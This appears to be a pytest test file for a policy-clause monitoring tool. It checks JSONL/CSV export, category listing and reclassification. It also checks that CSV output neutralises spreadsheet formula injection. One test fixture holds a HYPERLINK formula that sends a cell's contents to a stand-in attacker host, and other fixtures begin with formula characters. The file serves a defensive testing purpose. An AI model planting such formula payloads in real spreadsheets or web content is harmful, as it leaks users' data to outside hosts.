"""`clausewatch export`, `categories` and `reclassify` against a real page server and SQLite
store: what analysts get, and page text that must stay data in a spreadsheet."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from harness import SUPPORT_CATEGORY, PageServer

from daemon.cli import main
from daemon.export import csv_cell

CLAUSES = [
    "We collect the prompts you type into our AI features and the responses they generate.",
    "We keep your personal data for 24 months after you close your account.",
    '=HYPERLINK("http://attacker.test/?leak="&A1, "Click for your data")',
    "-2+3 is how many days we wait before deleting backups.",
    "@SUM(1,2) marks this paragraph.",
    "+44 20 7946 0000 is our privacy line.",
]
TERMS = ["Any dispute will be resolved by binding arbitration and you waive any class action.",
         "You can contact our support team at any time."]


def page(paragraphs: list[str]) -> str:
    body = "".join(f"<p>{p.replace('&', '&amp;').replace('<', '&lt;')}</p>" for p in paragraphs)
    return f"<html><body><main><h1>Policy</h1>{body}</main></body></html>"


def run(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def config(tmp_path: Path, page_server: PageServer) -> Path:
    page_server.set("/privacy", page(CLAUSES))
    page_server.set("/terms", page(TERMS))
    path = tmp_path / "clausewatch.toml"
    path.write_text(f"""
data_dir = "data"

[fetch]
per_host_delay = 0
retries = 0

[[documents]]
id = "example/privacy"
platform = "Example"
title = "Privacy Policy"
url = "{page_server.url('/privacy')}"
robots = false
select = "main"

[[documents]]
id = "other/terms"
platform = "Other"
title = "Terms of Service"
url = "{page_server.url('/terms')}"
robots = false
select = "main"
""")
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def read_jsonl(path: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_export_writes_every_table_as_jsonl_and_csv(capsys: pytest.CaptureFixture[str],
                                                    config: Path, page_server: PageServer,
                                                    tmp_path: Path) -> None:
    assert run(capsys, "check", "-c", config)[0] == 0
    page_server.set("/privacy", page([CLAUSES[0], CLAUSES[1].replace("24", "36"), *CLAUSES[2:]]))
    assert run(capsys, "check", "-c", config)[0] == 0
    out = tmp_path / "export"
    code, text, err = run(capsys, "export", "-c", config, "--out", out)
    assert code == 0, err
    assert sorted(p.name for p in out.iterdir()) == sorted(
        f"{t}.{f}" for t in ("documents", "clauses", "changes", "categories")
        for f in ("jsonl", "csv"))
    assert "clauses: 10 row(s)" in text  # 6 + 2 paragraphs, and each page's heading

    for table in ("documents", "clauses", "changes", "categories"):
        assert len(read_csv(out / f"{table}.csv")) == len(read_jsonl(out / f"{table}.jsonl"))

    clauses = read_jsonl(out / "clauses.jsonl")
    assert [c["record_id"] for c in clauses] == [f"CW-P-{n:06d}" for n in range(1, 11)]
    ai = next(c for c in clauses if c["text"] == CLAUSES[0])
    assert (ai["categories"], ai["severity"], ai["document_record_id"], ai["platform"]) == (
        ["ai-interaction-data"], "high", "CW-D-00001", "Example")

    # Page text stays text in a spreadsheet: formula starts are quoted in CSV, kept in JSONL.
    rows = {r["id"]: r for r in read_csv(out / "clauses.csv")}
    for clause in clauses:
        cell = rows[str(clause["id"])]["text"]
        text_value = str(clause["text"])
        if text_value[0] in "=+-@":
            assert cell == "'" + text_value
        else:
            assert cell == text_value
    assert sum(1 for c in clauses if str(c["text"])[0] in "=+-@") == 4

    [change] = read_jsonl(out / "changes.jsonl")
    assert (change["kind"], change["categories_before"], change["categories_after"]) == (
        "modified", ["data-retention"], ["data-retention"])
    categories = read_csv(out / "categories.csv")
    assert {(r["category"], r["platform"], r["rarity"]) for r in categories} >= {
        ("ai-interaction-data", "Example", "1 of 2 platforms"),
        ("arbitration-class-action", "Other", "1 of 2 platforms")}

    # One format only.
    only = tmp_path / "only-csv"
    assert run(capsys, "export", "-c", config, "--out", only, "--format", "csv")[0] == 0
    assert sorted(p.suffix for p in only.iterdir()) == [".csv"] * 4


def test_csv_cells() -> None:
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("\t=1") == "'\t=1"
    assert csv_cell("plain") == "plain"
    assert csv_cell(None) == ""
    assert csv_cell(["a", "b"]) == "a; b"
    assert csv_cell(["-x"]) == "'-x"
    assert csv_cell(-0.5) == -0.5


def test_categories_and_reclassify_commands(capsys: pytest.CaptureFixture[str], config: Path,
                                           tmp_path: Path) -> None:
    assert run(capsys, "check", "-c", config)[0] == 0
    code, out, _ = run(capsys, "categories", "-c", config)
    assert code == 0
    ai = next(line for line in out.splitlines() if line.startswith("ai-interaction-data"))
    assert "high" in ai and "1 of 2 platforms" in ai and "AI interaction data collection" in ai
    code, out, _ = run(capsys, "categories", "ai-interaction-data", "-c", config, "--json")
    detail = json.loads(out)
    [platform] = detail["platforms_with_category"]
    assert platform["platform"] == "Example"
    assert platform["documents"][0]["clauses"][0]["text"] == CLAUSES[0]
    code, _, err = run(capsys, "categories", "no-such-thing", "-c", config)
    assert code == 1 and "no category with id 'no-such-thing'" in err

    # Nothing to do with the taxonomy the clauses were classified with.
    code, out, _ = run(capsys, "reclassify", "-c", config, "--json")
    assert code == 0 and set(json.loads(out)["documents"].values()) == {0}

    # A taxonomy of one category, named in the config: reclassify applies it.
    (tmp_path / "taxonomy.toml").write_text(SUPPORT_CATEGORY)
    config.write_text('taxonomy = "taxonomy.toml"\n' + config.read_text())
    code, out, _ = run(capsys, "config", "check", "-c", config)
    assert code == 0 and "(1 categories)" in out
    code, out, _ = run(capsys, "reclassify", "-c", config)
    assert code == 0
    assert "example/privacy: 2 clause(s) reclassified" in out  # AI and retention dropped
    assert "other/terms: 2 clause(s) reclassified" in out  # arbitration dropped, support added
    code, out, _ = run(capsys, "categories", "-c", config, "--json")
    listed = {c["id"]: c for c in json.loads(out)}
    assert listed["support-contact"]["rarity"] == "1 of 2 platforms"
    # The old categories no clause carries any more are gone from the list.
    assert set(listed) == {"support-contact"}

    # A subscription filtering on a category the taxonomy lacks is refused, naming the key.
    config.write_text(config.read_text() + """
[[channels]]
id = "hook"
type = "webhook"
url = "http://127.0.0.1:9/hook"
secret_env = "CW_TEST_SECRET"

[[subscriptions]]
id = "ai"
channels = ["hook"]
categories = ["ai-model-training"]
""")
    code, _, err = run(capsys, "categories", "-c", config)
    assert code == 2
    assert "subscriptions[0] (ai).categories" in err and "support-contact" in err
